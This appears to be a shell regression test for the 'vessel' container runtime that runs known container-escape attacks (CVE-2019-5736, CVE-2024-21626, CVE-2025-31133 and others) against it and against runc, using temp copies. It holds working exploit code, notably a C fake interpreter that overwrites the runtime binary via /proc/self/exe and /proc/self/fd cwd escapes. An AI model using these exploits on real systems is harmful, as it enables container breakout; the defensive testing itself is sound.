# vessel ctr against the known container-escape classes (issue 10): each
# attack is run against vessel and, for information, against runc in the same
# way (its outcome printed as a TAP comment); the test asserts on vessel only.
# "Contained" means: the runtime binary's hash unchanged, no file written
# outside the rootfs, nothing mounted or created on the host, an unrelated
# process alive. Attacks aim at copies and temp dirs, never at the host's own
# files, and everything is cleaned up even when an attack succeeds.
. "$SRC/tests/lib.sh"
. "$SRC/tests/ctrlib.sh"
ctr_need

T=$(mktemp -d /tmp/vessel-escape.XXXXXX)
VICTIMS=()
cleanup_escapes() {
    local p
    for p in "${VICTIMS[@]}"; do kill -9 "$p" 2>/dev/null; done
    for id in $(VCTR list -q 2>/dev/null); do VCTR delete -f "$id" >/dev/null 2>&1; done
    for id in $(RUNC list -q 2>/dev/null); do RUNC delete -f "$id" >/dev/null 2>&1; done
    for d in /sys/fs/cgroup/*/vessel-escape-victim* /sys/fs/cgroup/vessel-escape-victim*; do
        [ -d "$d" ] && rmdir "$d" 2>/dev/null
    done
    rm -rf "$T" "$CTR_ROOT" "$RUNC_ROOT" "$CTR_BASE"
}
trap cleanup_escapes EXIT

# wait_for SECONDS CMD...: poll CMD (every 50 ms) until it succeeds; 1 on timeout
wait_for() {
    local end=$((SECONDS + $1)); shift
    until "$@"; do [ $SECONDS -ge $end ] && return 1; sleep 0.05; done
}
info() { echo "# runc: $*"; }
stopped() { [ "$("$@" 2>/dev/null | python3 -c 'import json,sys; print(json.load(sys.stdin)["status"])' 2>/dev/null)" != running ]; }

# ---------------------------------------------------------------------------
# CVE-2019-5736: the container execs #!/proc/self/exe, so the runtime binary
# (or whatever /proc/self/exe names when the runtime execs the program)
# runs inside it; a fake ld-linux in the rootfs (the interpreter is looked up
# in the container's root) grabs /proc/self/exe with O_PATH, execs away from
# it and reopens it for writing once the runtime has exited.
CC=$(command -v cc || command -v gcc)
if [ -n "$CC" ] && [ "$(uname -m)" = x86_64 ] && "$CC" -static -o "$T/fake-ld" -x c - <<'C' 2>/dev/null
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "--no-exe")) {
        FILE *r = fopen("/result", "w");
        fprintf(r, "refused: /proc/self/exe cannot be opened\n");
        fclose(r);
        return 0;
    }
    if (argc > 1 && !strcmp(argv[1], "--write")) {
        /* second stage: fd 3 is the runtime binary; we no longer execute it */
        FILE *r = fopen("/result", "w");
        for (int i = 0; i < 400; i++) {   /* up to 20 s for the runtime to exit */
            int fd = open("/proc/self/fd/3", O_WRONLY | O_TRUNC);
            if (fd >= 0) {
                ssize_t n = write(fd, "#!/bin/sh\necho pwned\n", 21);
                fprintf(r, n > 0 ? "written\n" : "open-ok-write-failed %s\n", strerror(errno));
                fclose(r);
                return 0;
            }
            if (errno != ETXTBSY) {
                fprintf(r, "refused %s\n", strerror(errno));
                fclose(r);
                return 0;
            }
            nanosleep(&(struct timespec){ 0, 50000000 }, NULL);
        }
        fprintf(r, "refused still-busy\n");
        fclose(r);
        return 0;
    }
    return 1;
}
C
then
    # the interpreter itself: no libc (a static libc would take the runtime's
    # program headers for its own), x86-64 system calls
    "$CC" -static -nostdlib -no-pie -fno-stack-protector -O2 -o "$T/fake-interp" -x c - <<'C' 2>/dev/null
static long sys3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
void _start(void)
{
    long fd = sys3(2, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
    if (fd >= 0) sys3(33, fd, 3, 0);
    char *argv[] = { "/fake-ld", fd >= 0 ? "--write" : "--no-exe", 0 }, *envp[] = { 0 };
    sys3(59, (long)"/fake-ld", (long)argv, (long)envp);
    sys3(60, 1, 0, 0);
}
C
fi
if [ -x "$T/fake-interp" ]; then
    ld=$(readelf -l "$VESSEL" | sed -n 's/.*Requesting program interpreter: \(.*\)]/\1/p')
    # attack RUNTIME-BINARY-COPY KIND ID: prints the outcome; KIND run | exec
    attack_5736() {
        local bin=$1 kind=$2 id=$3 d=$CTR_BASE/5736-$3 rootarg
        mkbundle "$d"
        cp "$T/fake-ld" "$d/rootfs/fake-ld"
        [ -n "$ld" ] && mkdir -p "$d/rootfs$(dirname "$ld")" && cp "$T/fake-interp" "$d/rootfs$ld"
        # runc's interpreter too (it may differ)
        rl=$(readelf -l "$(command -v runc)" 2>/dev/null | sed -n 's/.*Requesting program interpreter: \(.*\)]/\1/p')
        [ -n "$rl" ] && mkdir -p "$d/rootfs$(dirname "$rl")" && cp "$T/fake-interp" "$d/rootfs$rl"
        printf '#!/proc/self/exe\n' > "$d/rootfs/evil"; chmod +x "$d/rootfs/evil"
        local sub=()
        case $bin in *runc*) rootarg=$RUNC_ROOT ;; *) rootarg=$CTR_ROOT; sub=(ctr) ;; esac
        local before; before=$(sha256sum < "$bin")
        if [ "$kind" = run ]; then
            cfg "$d" 'c["process"]["args"]=["/evil"]'
            (cd "$d" && timeout 20 "$bin" "${sub[@]}" --root "$rootarg" run -d "$id" </dev/null >/dev/null 2>"$d/err")
        else
            args "$d" 'sleep 30'
            (cd "$d" && timeout 20 "$bin" "${sub[@]}" --root "$rootarg" run -d "$id" </dev/null >/dev/null 2>&1)
            timeout 20 "$bin" "${sub[@]}" --root "$rootarg" exec -d "$id" /evil </dev/null >/dev/null 2>"$d/err"
        fi
        wait_for 25 attack_5736_done "$d"
        local after; after=$(sha256sum < "$bin")
        "$bin" "${sub[@]}" --root "$rootarg" delete -f "$id" >/dev/null 2>&1
        if [ "$before" != "$after" ]; then echo "OVERWRITTEN ($(cat "$d/rootfs/result" 2>/dev/null))"
        elif [ -s "$d/rootfs/result" ]; then echo "contained ($(cat "$d/rootfs/result"))"
        elif grep -q "$STAGE_REFUSAL" "$d/err" 2>/dev/null; then
            echo "contained (#!/proc/self/exe named only the runtime's sealed static exec stage, no host file and no interpreter to take over: \"$(grep -m1 "$STAGE_REFUSAL" "$d/err")\")"
        else echo "the attack did not run (no result)"; fi
    }
    # vessel execs a container's programs through a static stage in a sealed
    # memfd (no PT_INTERP, so the fake ld-linux never runs); run as an
    # interpreter it refuses with this line on the container's stderr
    STAGE_REFUSAL="vessel-ctr-exec: the runtime's last step into a container; it runs nothing by itself"
    attack_5736_done() { test -s "$1/rootfs/result" || grep -q "$STAGE_REFUSAL" "$1/err" 2>/dev/null; }
    for kind in run exec; do
        cp "$VESSEL" "$T/vessel-copy-$kind"
        v=$(attack_5736 "$T/vessel-copy-$kind" $kind v5736$kind)
        [[ $v == contained* ]] && ok "CVE-2019-5736 ($kind): the runtime binary cannot be overwritten through /proc/self/exe: $v" ||
            nok "CVE-2019-5736 ($kind): $v"
        cp "$(command -v runc)" "$T/runc-copy-$kind"
        info "CVE-2019-5736 ($kind): $(attack_5736 "$T/runc-copy-$kind" $kind r5736$kind)"
    done
else
    skip "CVE-2019-5736" "needs x86-64 and a static C compiler (cc -static) to build the fake ld-linux"
fi

# ---------------------------------------------------------------------------
# CVE-2024-21626: process.cwd = /proc/self/fd/N names a host directory fd that
# the runtime leaked into the container (its own, or one it inherited); from
# there ../../.. is the host's /. The same for exec --cwd.
hostdir=$T/host-side; mkdir -p "$hostdir"
cwd_attack() {   # cwd_attack RUNTIME-FN ID: prints "escaped" or "contained"
    local fn=$1 id=$2 d=$CTR_BASE/cwd-$2 n out=contained
    mkbundle "$d"
    args "$d" "echo pwned > escaped-$id; cd ../../../../../../../..; echo pwned > $T/escaped-root-$id"
    for n in 3 4 5 6 7 8 9; do
        cfg "$d" "c['process']['cwd']='/proc/self/fd/$n'"
        (cd "$d" && "$fn" run "$id-$n" 9<"$hostdir") </dev/null >/dev/null 2>&1
        "$fn" delete -f "$id-$n" >/dev/null 2>&1
    done
    if ls "$hostdir"/escaped-"$id" "$T/escaped-root-$id" >/dev/null 2>&1 ||
        find "$T" "$CTR_ROOT" "$RUNC_ROOT" -name "escaped-$id" 2>/dev/null | grep -q .; then
        out=escaped
    fi
    echo $out
}
v=$(cwd_attack VCTR vcwd)
[ "$v" = contained ] && ok "CVE-2024-21626: process.cwd=/proc/self/fd/N reaches no host directory" || nok "CVE-2024-21626 (run): $v"
info "CVE-2024-21626 (run): $(cwd_attack RUNC rcwd)"

exec_cwd_attack() {
    local fn=$1 id=$2 d=$CTR_BASE/xcwd-$2 n
    mkbundle "$d"; args "$d" 'sleep 60'
    (cd "$d" && "$fn" run -d "$id") </dev/null >/dev/null 2>&1
    for n in 3 4 5 6 7 8 9; do
        "$fn" exec --cwd "/proc/self/fd/$n" "$id" sh -c "echo pwned > xescaped-$id; cd ../../../../../../../..; echo pwned > $T/xescaped-root-$id" \
            9<"$hostdir" </dev/null >/dev/null 2>&1
    done
    "$fn" delete -f "$id" >/dev/null 2>&1
    if ls "$hostdir/xescaped-$id" "$T/xescaped-root-$id" >/dev/null 2>&1 ||
        find "$T" "$CTR_ROOT" "$RUNC_ROOT" -name "xescaped-$id" 2>/dev/null | grep -q .; then
        echo escaped
    else
        echo contained
    fi
}
v=$(exec_cwd_attack VCTR vxcwd)
[ "$v" = contained ] && ok "CVE-2024-21626: exec --cwd /proc/self/fd/N reaches no host directory" || nok "CVE-2024-21626 (exec --cwd): $v"
info "CVE-2024-21626 (exec --cwd): $(exec_cwd_attack RUNC rxcwd)"

# ---------------------------------------------------------------------------
# CVE-2021-30465 class: mount destinations through symlinks in the rootfs.
# mount_attack RUNTIME-FN ID LINK-TARGET DEST CHECK-DIR: rootfs/mnt -> LINK-TARGET,
# a tmpfs mounted at DEST; the container reports whether the tmpfs is at DEST
# as it sees it. Prints "host-created" when CHECK-DIR appeared on the host.
mount_attack() {
    local fn=$1 id=$2 target=$3 dest=$4 check=$5 d=$CTR_BASE/mnt-$2
    mkbundle "$d"
    mkdir -p "$d/rootfs2/sub"
    ln -s "$target" "$d/rootfs/mnt"
    cfg "$d" "c['mounts'].append({'destination':'$dest','type':'tmpfs','source':'tmpfs','options':['nosuid']})"
    args "$d" "[ \"\$(stat -f -c %T $dest 2>/dev/null)\" = tmpfs ] && echo inside || echo elsewhere"
    local out; out=$(cd "$d" && "$fn" run "$id" </dev/null 2>/dev/null)
    "$fn" delete -f "$id" >/dev/null 2>&1
    if [ -e "$check" ]; then echo "host-created ($check)"; rm -rf "$check"
    elif [ -z "$out" ]; then echo "refused"
    else echo "$out"; fi
}
mkdir -p "$T/hostmnt"
for rt in V R; do
    fn=$([ $rt = V ] && echo VCTR || echo RUNC)
    r1=$(mount_attack $fn ${rt}m1 "$T/hostmnt" /mnt/x/y "$T/hostmnt/x")
    r2=$(mount_attack $fn ${rt}m2 ../rootfs2 /mnt/new/dir "$CTR_BASE/mnt-${rt}m2/rootfs2/new")
    r3=$(mount_attack $fn ${rt}m3 ../rootfs2 /mnt/sub "/nonexistent")
    if [ $rt = V ]; then
        [[ $r1 == inside || $r1 == refused ]] && ok "mount through rootfs/mnt -> host dir, last components missing: nothing created on the host ($r1)" ||
            nok "mount through a symlink to a host dir: $r1"
        [[ $r2 == inside || $r2 == refused ]] && ok "mount through rootfs/mnt -> ../rootfs2, missing components: nothing created beside the rootfs ($r2)" ||
            nok "mount through ../rootfs2 (missing): $r2"
        [[ $r3 == inside || $r3 == refused ]] && ok "mount through rootfs/mnt -> ../rootfs2 (the prefix case): the mount stays in the root ($r3)" ||
            nok "mount through ../rootfs2 (prefix): $r3"
    else
        info "mount through symlinks: host dir: $r1; ../rootfs2 missing: $r2; ../rootfs2 prefix: $r3"
    fi
done
rmdir "$T/hostmnt" 2>/dev/null && ok "... and the host-side target directory is untouched" || nok "host-side mount target was changed: $(ls -R "$T/hostmnt")"

# ---------------------------------------------------------------------------
# linux.cgroupsPath naming an existing cgroup with an unrelated process in it:
# that process must survive and the cgroup must remain.
cgroup_attack() {   # cgroup_attack RUNTIME-FN ID
    local fn=$1 id=$2 name=vessel-escape-victim-$2 d=$CTR_BASE/cg-$2 dirs=() c
    for c in /sys/fs/cgroup/*/ /sys/fs/cgroup/; do
        [ -e "$c/cgroup.procs" ] || continue
        [ "$(stat -f -c %T "$c")" = cgroup2 ] || [ "$(stat -f -c %T "$c")" = cgroupfs ] || continue
        mkdir -p "$c$name" 2>/dev/null && dirs+=("$c$name")
    done
    sleep 300 </dev/null >/dev/null 2>&1 &
    local victim=$!
    VICTIMS+=("$victim")
    for c in "${dirs[@]}"; do echo "$victim" > "$c/cgroup.procs" 2>/dev/null; done
    mkbundle "$d"; args "$d" 'true'
    cfg "$d" "c['linux']['cgroupsPath']='/$name'"
    (cd "$d" && "$fn" run "$id") </dev/null >/dev/null 2>&1
    "$fn" delete -f "$id" >/dev/null 2>&1
    local res=contained left=0
    kill -0 "$victim" 2>/dev/null || res="victim-killed"
    for c in "${dirs[@]}"; do [ -d "$c" ] && left=$((left + 1)); done
    [ "$left" -eq "${#dirs[@]}" ] || res="$res cgroup-removed($left/${#dirs[@]} left)"
    kill -9 "$victim" 2>/dev/null; wait "$victim" 2>/dev/null
    for c in "${dirs[@]}"; do rmdir "$c" 2>/dev/null; done
    echo "$res"
}
v=$(cgroup_attack VCTR vcg)
[ "$v" = contained ] && ok "linux.cgroupsPath naming a cgroup in use: its process survives and the cgroup remains" || nok "existing cgroup: $v"
info "existing cgroup: $(cgroup_attack RUNC rcg)"
# the root of a hierarchy is never the container's cgroup. `create` only: a
# runtime that accepted it would kill everything in the root cgroup on delete,
# so this test never calls delete; it kills the init itself.
d=$CTR_BASE/cgroot; mkbundle "$d"; args "$d" 'true'; cfg "$d" "c['linux']['cgroupsPath']='/'"
(cd "$d" && "$VESSEL" ctr --root "$CTR_ROOT" create cgroot </dev/null >/dev/null 2>"$T/cgroot.err"); rc=$?
if [ -e "$CTR_ROOT/cgroot/state.json" ]; then
    p=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["pid"])' "$CTR_ROOT/cgroot/state.json")
    rm -rf "$CTR_ROOT/cgroot"; kill -9 "$p" 2>/dev/null
fi
[ $rc -ne 0 ] && [ $rc -lt 128 ] && grep -q 'cgroupsPath' "$T/cgroot.err" &&
    ok "linux.cgroupsPath \"/\" (a hierarchy's root) is refused: $(head -n 1 "$T/cgroot.err")" ||
    nok "linux.cgroupsPath \"/\": status $rc, $(head -c 300 "$T/cgroot.err")"

# ---------------------------------------------------------------------------
# CVE-2025-31133: /dev/null in the rootfs is a symlink (no /dev mount in the
# config) when it is bound over maskedPaths: the masked file must be the real
# null device, never the symlink's target (here /proc/sys/kernel/core_pattern,
# which is global: the container could then write the host's core_pattern).
null_attack() {
    local fn=$1 id=$2 d=$CTR_BASE/null-$2
    mkbundle "$d"
    cfg "$d" "c['mounts']=[m for m in c['mounts'] if m['destination'] != '/dev' and not m['destination'].startswith('/dev/')]"
    cfg "$d" "c['linux']['maskedPaths']=['/proc/timer_list']"
    rm -f "$d/rootfs/dev/null"; ln -s /proc/sys/kernel/core_pattern "$d/rootfs/dev/null"
    args "$d" 'stat -c "%F %t:%T" /proc/timer_list'
    local out; out=$(cd "$d" && "$fn" run "$id" </dev/null 2>/dev/null)
    "$fn" delete -f "$id" >/dev/null 2>&1
    case $out in "character special file 1:3") echo "contained (masked with the null device)" ;;
        "") echo "contained (refused)" ;; *) echo "REDIRECTED: /proc/timer_list is [$out]" ;; esac
}
v=$(null_attack VCTR vnull)
[[ $v == contained* ]] && ok "CVE-2025-31133: maskedPaths never bound from a /dev/null symlink: $v" || nok "CVE-2025-31133: $v"
info "CVE-2025-31133: $(null_attack RUNC rnull)"

# ---------------------------------------------------------------------------
# CVE-2025-52565: the /dev/console bind (process.terminal) redirected through a
# symlink in the rootfs (no /dev mount): the pty must land on the container's
# own /dev/console, never on the symlink's target.
PTY="python3 $SRC/tests/pty-run.py --timeout 30"
console_attack() {
    local fn=$1 id=$2 d=$CTR_BASE/cons-$2 bin
    mkbundle "$d"
    cfg "$d" "c['mounts']=[m for m in c['mounts'] if m['destination'] != '/dev']"
    cfg "$d" 'c["process"]["terminal"]=True; c["linux"]["maskedPaths"]=[]'
    echo original > "$d/rootfs/target"
    rm -f "$d/rootfs/dev/console"; ln -s /target "$d/rootfs/dev/console"
    ln -s pts/ptmx "$d/rootfs/dev/ptmx"
    args "$d" 'stat -c "console=%F %t" /dev/console; stat -c "target=%F" /target'
    bin=$([ "$fn" = VCTR ] && echo "$VESSEL ctr --root $CTR_ROOT" || echo "runc --root $RUNC_ROOT")
    local out; out=$(cd "$d" && $PTY $bin run "$id" 2>&1 | tr -d '\r')
    "$fn" delete -f "$id" >/dev/null 2>&1
    if grep -q '^target=regular' <<<"$out" && grep -q '^console=character special file 88$' <<<"$out"; then
        echo "contained (the pty is /dev/console, /target untouched)"
    elif grep -q '^target=character' <<<"$out"; then
        echo "REDIRECTED: the pty was bound over /target"
    else
        echo "NOT SET UP: [$(tr '\n' ' ' <<<"$out" | head -c 200)]"
    fi
}
v=$(console_attack VCTR vcons)
[[ $v == contained* ]] && ok "CVE-2025-52565: /dev/console bound through a verified fd: $v" || nok "CVE-2025-52565: $v"
info "CVE-2025-52565: $(console_attack RUNC rcons)"

# ---------------------------------------------------------------------------
# CVE-2025-52881: a /proc write of the runtime (a sysctl) redirected through a
# symlink and a bind mount: the image makes /etc a link into /proc/sys/kernel,
# so the bind of a host file on /etc/domainname lands on the procfs file;
# the runtime's write of kernel.domainname must not reach the host file.
proc_attack() {
    local fn=$1 id=$2 d=$CTR_BASE/proc-$2
    mkbundle "$d"
    echo host-original > "$T/hostfile-$id"
    rm -rf "$d/rootfs/etc"; ln -s proc/sys/kernel "$d/rootfs/etc"
    cfg "$d" "c['mounts'].append({'destination':'/etc/domainname','type':'bind','source':'$T/hostfile-$id','options':['rbind','rw']}); c['linux']['sysctl']={'kernel.domainname':'pwned'}"
    args "$d" 'cat /proc/sys/kernel/domainname'
    local out; out=$(cd "$d" && "$fn" run "$id" </dev/null 2>/dev/null)
    "$fn" delete -f "$id" >/dev/null 2>&1
    if [ "$(cat "$T/hostfile-$id")" != host-original ]; then echo "ESCAPED: the host file now holds [$(cat "$T/hostfile-$id")]"
    elif [ -z "$out" ]; then echo "contained (refused)"
    elif [ "$out" = pwned ]; then echo "contained (written to the real procfs file)"
    else echo "MISDIRECTED: the sysctl reads [$out]"; fi
}
v=$(proc_attack VCTR vproc)
[[ $v == contained* ]] && ok "CVE-2025-52881: /proc writes only through verified procfs fds: $v" || nok "CVE-2025-52881: $v"
info "CVE-2025-52881: $(proc_attack RUNC rproc)"

# ---------------------------------------------------------------------------
# A recursive read-only /sys: the cgroup mounts below a bound /sys are read-only too
sys_check() {
    local fn=$1 id=$2 d=$CTR_BASE/sys-$2
    mkbundle "$d"
    # a user namespace (identity-mapped) without a network namespace of its
    # own: no sysfs can be mounted, the host's /sys is bound instead
    cfg "$d" "c['linux']['namespaces']=[n for n in c['linux']['namespaces'] if n['type'] != 'network']+[{'type':'user'}]; c['linux']['uidMappings']=[{'containerID':0,'hostID':0,'size':65536}]; c['linux']['gidMappings']=[{'containerID':0,'hostID':0,'size':65536}]"
    # (the tmpfs at /sys/fs/cgroup itself is writable on purpose, as under
    # runc; what is below it and every sysfs mount must be read-only)
    args "$d" 'awk '"'"'$5 ~ "^/sys" && $5 != "/sys/fs/cgroup" { split($6, o, ","); print $5, o[1] }'"'"' /proc/self/mountinfo'
    local out; out=$(cd "$d" && "$fn" run "$id" </dev/null 2>/dev/null)
    "$fn" delete -f "$id" >/dev/null 2>&1
    if [ -z "$out" ]; then echo "no /sys mounts seen"
    elif grep -q ' rw$' <<<"$out"; then echo "writable: $(grep ' rw$' <<<"$out" | tr '\n' ' ')"
    else echo "all read-only ($(wc -l <<<"$out") mounts)"; fi
}
v=$(sys_check VCTR vsys)
[[ $v == all* ]] && ok "/sys bound from the host (no network namespace) is read-only all the way down: $v" || nok "recursive read-only /sys: $v"
info "/sys without a network namespace: $(sys_check RUNC rsys)"

# nothing of ours is left mounted on the host
grep -q -e "$T" -e "$CTR_BASE" /proc/self/mountinfo && nok "mounts left on the host: $(grep -e "$T" -e "$CTR_BASE" /proc/self/mountinfo)" ||
    ok "no mount of the tests is left on the host"
